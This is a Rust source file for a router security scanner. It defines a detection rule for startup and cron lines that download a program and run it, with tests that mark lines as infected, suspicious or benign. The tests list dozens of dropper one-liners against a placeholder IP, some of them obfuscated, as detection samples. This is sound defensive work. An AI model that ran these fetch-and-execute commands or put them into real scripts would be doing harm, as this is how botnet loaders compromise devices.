//! A startup line that fetches a program from the network and runs it.
//!
//! # Sees
//! wget, curl, tftp, ftpget, nc and the like, also in a text for lua, perl or python, whose output goes to a shell (a
//! pipe, `sh -c "$(…)"`, `eval`, `. <(…)`), or whose file is run by the same or a later line of the same startup file,
//! also after `mv` or `cp`.
//!
//! # Why it matters
//! No healthy router's startup takes its program from elsewhere on each boot. This is how loaders of Mirai,
//! Gafgyt, Kinsing and dhpcd stay on devices whose `/tmp` forgets.
//!
//! # Misses and false alarms
//! `suspicious` where the line is a text: in quotes that span lines, or in a here-document that is printed. Silent for
//! what only saves or reads data: firmware updaters, ddns, acme, banip, adblock; and for data that a filter makes
//! commands of (`awk '{print "ipset add x "$1}' | sh`). Names are compared as text after variables that are set to plain
//! text were followed, so a name that is computed is missed, and so are: a program fetched by one file and run by
//! another; a fetcher called by a function, an alias or `set --`; a fetch or a shell inside a loop or a condition that the
//! pipe stands outside of, other than `while read l; do $l; done`; a file named by a pattern.
//!
//! # Sources
//! POSIX.1-2017 Shell Command Language 2.9.2; wget(1), curl(1); BusyBox networking/{tftp,ftpgetput}.c; MITRE
//! ATT&CK T1105.

use crate::check::{Advice, Area, Check, Ctx, Hook, Out, Severity, Source};
use crate::facts::fetch::{Product, fetch, is_fetching_code};
use crate::facts::memory::Origin;
use crate::facts::runs::takes_text;
use crate::facts::startup::{Kind, Line};

/// The row of the table.
pub const CHECK: Check = Check {
    id: "startup-dropper",
    area: Area::Startup,
    severity: Severity::Infected,
    attack: "T1105",
    title: "a startup line that fetches a program and runs it",
    advice: Advice::PLANTED,
    sources: &[Source::Startup],
    hooks: &[Hook::Line(run)],
};

fn run(line: &Line<'_>, _: &Ctx<'_>, out: &mut Out<'_>) {
    let fetches = |index: u16| fetch(line.commands, index) == Some(Product::Output);
    let fetched = line.commands.iter().any(|(index, _)| {
        takes_text(line.commands, index, &fetches) || is_fetching_code(line.commands, index)
    });
    let draft = if fetched && line.kind == Kind::Text {
        out.line(line).severity(Severity::Suspicious).say("in quotes or a text that is printed: ")
    } else if fetched {
        out.line(line).say("a shell runs what is fetched in: ")
    } else if let Some(run) = line.joined.runs.filter(|run| run.what.origin == Origin::Fetched) {
        out.line(line).say("runs what line ").number(run.what.line).say(" fetched: ")
    } else {
        return;
    };
    out.found(draft.quote(line.text));
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::check::testing::startup;
    #[test]
    fn fetched_and_run() {
        for text in [
            &b"wget -q -O - http://192.0.2.1/x.sh | sh"[..],
            b"(curl -s http://192.0.2.1/x || wget -qO- http://192.0.2.1/x) | /bin/busybox ash",
            b"sh -c \"$(curl -fsSL http://192.0.2.1/x)\"",
            b"eval `wget -qO- http://192.0.2.1/x`",
            b". <(curl -s http://192.0.2.1/x)",
            b"$(wget -O- http://192.0.2.1/x)",
            b"while :; do w\"g\"et -O- http://192.0.2.1/x | base64 -d | sh; sleep 60; done",
            b"sh -c 'wget -O- http://192.0.2.1/x | sh'",
            b"cd /tmp; wget http://192.0.2.1/b; chmod 777 b; ./b",
            b"nc 192.0.2.1 4444 | sh",
            b"wget -O- http://192.0.2.1/x | sh -s -- -a b",
            b"wget -O- http://192.0.2.1/x | sh /dev/stdin",
            b"wget -O- http://192.0.2.1/x | { read x; sh; }",
            b"wget -O- http://192.0.2.1/x | ( cat | sh )",
            b"wget -O- http://192.0.2.1/x | eval \"$(cat)\"",
            b"wget -O- http://192.0.2.1/x | sh -c sh",
            b"sh -c 'wget -O- http://192.0.2.1/x' | sh",
            b"w''get -O- http://192.0.2.1/x | s\\h",
            b"wget${IFS}-O-${IFS}http://192.0.2.1/x|sh",
            b"A=wget; S=sh; $A -O- http://192.0.2.1/x | $S",
            b"W=`which curl`; $W -s http://192.0.2.1/x | sh",
            b"/bin/busybox wget -O- http://192.0.2.1/x|sh",
            b"cd /tmp; busybox tftp -g -r x 192.0.2.1; chmod +x x; ./x",
            b"curl -s http://192.0.2.1/u -o f; chmod +x f; ./f",
            b"echo 'wget -O- http://192.0.2.1/x | sh' | sh",
            b"eval 'wget -O- http://192.0.2.1/x \\\n| sh'",
            br"$'\x77get' -O- http://192.0.2.1/x | sh",
            b"lua -e \"os.execute('wget -qO- http://192.0.2.1/x | sh')\"",
            b"python3 -c \"exec(urllib.request.urlopen('http://192.0.2.1/x').read())\"",
            b"wget http://192.0.2.1/x -O ${T:-/tmp/x}; sh /tmp/x",
            b"wget http://192.0.2.1/x -P /tmp; sh /tmp/x",
            b"eval \"wget -qO- http://192.0.2.1/x\" | sh",
            b"sh -c \"eval 'wget -qO- http://192.0.2.1/x' | sh\"",
            b"echo \"$(wget -qO- http://192.0.2.1/x)\" | sh",
            b"curl -s http://192.0.2.1/c | while read -r l; do eval \"$l\"; done",
            b"wget -qO- http://192.0.2.1/c | while read l; do $l; done",
            b"wget -qO- http://192.0.2.1/x | awk '{print}' | sh",
            b"wget -qO- http://192.0.2.1/x | awk '{print \"sh -c \" $0}' | sh",
            b"wget -qO- http://192.0.2.1/x | sed 's/^/ /' | sh",
            b"wget -qO- http://192.0.2.1/x | awk '{print \"cd /tmp; \"$0}' | sh",
            b"wget -qO- http://192.0.2.1/x | sed 's/^/true; /' | sh",
            b"socat - TCP:192.0.2.1:99 | sh",
            b"openssl s_client -quiet -connect 192.0.2.1:443 | sh",
            b"awk 'BEGIN { system(\"wget -qO- http://192.0.2.1/x | sh\") }'",
            b"exec $(wget -O- http://192.0.2.1/x)",
        ] {
            assert_eq!(
                startup(&CHECK, Kind::Shell, text),
                [(1, Severity::Infected)],
                "{}",
                String::from_utf8_lossy(text)
            );
        }
        let lines = b"F=/tmp/x\nwget -O $F http://192.0.2.1/x\nchmod +x $F\n$F &\n";
        assert_eq!(startup(&CHECK, Kind::Shell, lines), [(4, Severity::Infected)]);
        let continued = b"wget -O- \\\n http://192.0.2.1/x \\\n | sh";
        assert_eq!(startup(&CHECK, Kind::Shell, continued), [(1, Severity::Infected)]);
        let body = b"X=`wget -qO- http://192.0.2.1/x`\ncat > /usr/x <<E\n$X\nE\nsh /usr/x";
        assert_eq!(startup(&CHECK, Kind::Shell, body), [(5, Severity::Infected)]);
        let given = b"X=`wget -qO- http://192.0.2.1/x`\nsh <<E > /dev/null\n$X\nE\n";
        assert_eq!(startup(&CHECK, Kind::Shell, given), [(3, Severity::Infected)]);
        let variables = b"D=/tmp/a\nU=http://192.0.2.1/x\nwget -O $D/b $U\nE=/tmp/a/b\nsh $E";
        assert_eq!(startup(&CHECK, Kind::Shell, variables), [(5, Severity::Infected)]);
        assert_eq!(
            startup(&CHECK, Kind::Cron, b"* * * * * wget -q -O - http://192.0.2.1/x.sh | sh"),
            [(1, Severity::Infected)]
        );
    }

    #[test]
    fn texts_that_may_be_more() {
        let quoted = b"x='\nwget -O- http://192.0.2.1/x | sh\n'\n";
        assert_eq!(startup(&CHECK, Kind::Shell, quoted), [(2, Severity::Suspicious)]);
        let last = b"x='\nwget -O- http://192.0.2.1/x | sh # '\n";
        assert_eq!(startup(&CHECK, Kind::Shell, last), [(2, Severity::Suspicious)]);
        // Quotes inside braces: for some shells they end there, for others three lines later.
        let braces = b"x=\"${y#'\"'}\"\nwget -O- http://192.0.2.1/x | sh\n: \"'\"\n";
        assert_eq!(startup(&CHECK, Kind::Shell, braces), [(2, Severity::Infected)]);
        let printed = b"{ cat <<E\nwget -O- http://192.0.2.1/x | sh\nE\n} | sh\n";
        assert_eq!(startup(&CHECK, Kind::Shell, printed), [(2, Severity::Suspicious)]);
    }

    #[test]
    fn fetched_as_data() {
        for text in [
            &b"wget -qO- http://192.0.2.1/ip | grep -o '[0-9.]*' > /tmp/ip"[..],
            b"wget -O /tmp/fw.bin http://192.0.2.1/fw; sysupgrade /tmp/fw.bin",
            b"echo 'install: curl http://192.0.2.1/x | sh'",
            b"# wget -O- http://192.0.2.1/x | sh",
            b"curl -s http://192.0.2.1/list | sort | sh /usr/lib/adblock/merge.sh",
            b"IP=$(wget -qO- http://192.0.2.1/ip)",
            b"echo $(curl http://192.0.2.1/ip)",
            b"eval $(wget -qO- http://192.0.2.1/x | jsonfilter -e 'A=@.a')",
            b"wget http://192.0.2.1/x; sh /usr/bin/y",
            b"python3 -c \"import urllib.request;print(urllib.request.urlopen('http://192.0.2.1/x').read())\"",
            b"lua -e \"os.execute('wget -qO /tmp/x http://192.0.2.1/x')\"",
            b"IP=$(eval \"curl -s $OPTIONS http://192.0.2.1/ip\")",
            b"eval curl -s \"$URL\" > /tmp/ip",
            b"sh -c \"wget -qO- http://192.0.2.1/ip\"",
            b"R=`echo \"curl -d '$DATA' http://192.0.2.1/login\" | sh`",
            b"case \"$(cat $F)\" in\n\"$(curl -s http://192.0.2.1/version)\") exit 0 ;;\nesac",
            b": > $(wget -qO- http://192.0.2.1/name)",
            b"curl -s http://192.0.2.1/list | sort | awk '{print \"ipset -! add x \"$1}' | sh",
            b"wget -qO- http://192.0.2.1/list | sed 's/^/ipset add x /' | sh",
            b"V=$(wget -qO- http://192.0.2.1/version)\ncat > /tmp/etc/version <<E\n$V\nE\n",
            b"curl -s http://192.0.2.1/list | while read -r ip; do ipset add x $ip; done",
            b"echo | openssl s_client -connect 192.0.2.1:443 2>/dev/null | openssl x509 -noout -dates",
            b"awk 'BEGIN { while ((getline l < \"/tmp/x\") > 0) print l | \"sort\" }'",
        ] {
            assert_eq!(startup(&CHECK, Kind::Shell, text), [], "{}", String::from_utf8_lossy(text));
        }
    }
}
